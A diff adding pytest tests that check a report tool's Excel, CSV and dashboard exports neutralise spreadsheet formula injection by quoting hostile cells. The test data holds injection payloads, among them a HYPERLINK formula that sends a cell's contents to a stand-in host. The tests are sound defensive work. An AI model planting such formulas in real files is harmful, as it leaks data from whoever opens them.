@@ -74,3 +74,79 @@ def _hidden(page: str) -> dict[str, str]:
     import re
 
     return dict(re.findall(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)"', page))
+
+
+# --- formula injection in the workbook and the CSV files --------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile_report(monkeypatch, sqlite_world):
+    """A hotline lead whose summary is a formula, and an extra sheet of hostile text and real numbers."""
+    import bot.reports as reports
+    from domain.ledgers import LeadSource
+    from storage.ledgers import LedgerRepository
+    from tests.conftest import FIXED_NOW
+
+    with sqlite_world[1]() as uow:
+        LedgerRepository(uow).add_lead(LeadSource.HOTLINE, HOSTILE[0], now=FIXED_NOW, place_code="350421101")
+        uow.commit()
+    original = reports.sheets
+    extra = reports.Sheet("注入", ["=表头", "b"], [8] * 10, [[*HOSTILE, -3, -2.5, 0, "正常 =1"]])
+    monkeypatch.setattr(reports, "sheets", lambda d: [*original(d), extra])
+    return extra
+
+
+def _check_cells(rows: list[list[object]]) -> None:
+    cells = [v for r in rows for v in r]
+    assert ["'" + h for h in HOSTILE] == cells[:6]
+    assert cells[6:] in ([-3, -2.5, 0, "正常 =1"], ["-3", "-2.5", "0", "正常 =1"])  # numbers stay numbers
+
+
+def test_report_files_never_hold_formulas(hostile_report, sqlite_world, tmp_path):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from bot.cli_reports import make_report
+    from tests.conftest import FIXED_NOW
+
+    with sqlite_world[1]() as uow:
+        xlsx = make_report(uow, "2026-11", None, "xlsx", tmp_path / "r.xlsx", FIXED_NOW)[0]
+        csvs = make_report(uow, "2026-11", None, "csv", tmp_path / "csv", FIXED_NOW)
+    wb = load_workbook(xlsx)
+    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    ws = wb["注入"]
+    assert ws["A1"].value == "'=表头"
+    _check_cells([list(r) for r in ws.iter_rows(min_row=2, values_only=True)])
+    leads = [r for r in wb["问题线索台账"].iter_rows(values_only=True) if "'" + HOSTILE[0] in r]
+    assert leads, "the hostile lead summary is in the ledger, quoted"
+    with csvs[-1].open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[0][0] == "'=表头"
+    _check_cells(rows[1:])
+    text = "".join(p.read_text(encoding="utf-8-sig") for p in csvs)
+    assert "'" + HOSTILE[0].replace('"', '""') in text
+
+
+async def test_the_dashboard_download_holds_no_formulas(hostile_report, sqlite_world):
+    import io
+
+    from openpyxl import load_workbook
+
+    app = make_app(DashboardServices(uow=sqlite_world[1], clock=Clock()))
+    async with TestClient(TestServer(app)) as client:
+        await _login(client, "S0002")
+        resp = await client.get("/report?period=2026-11&format=xlsx")
+        assert resp.status == 200
+        wb = load_workbook(io.BytesIO(await resp.read()))
+    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    _check_cells([list(r) for r in wb["注入"].iter_rows(min_row=2, values_only=True)])
+    assert any("'" + HOSTILE[0] in r for r in wb["问题线索台账"].iter_rows(values_only=True))
+
+
+async def _login(client, code: str, password: str | None = None, **extra):
+    form = await (await client.get("/login")).text()
+    data = {"code": code, "password": password or PASSWORDS[code], **_hidden(form), **extra}
+    return await client.post("/login", data=data, allow_redirects=False)
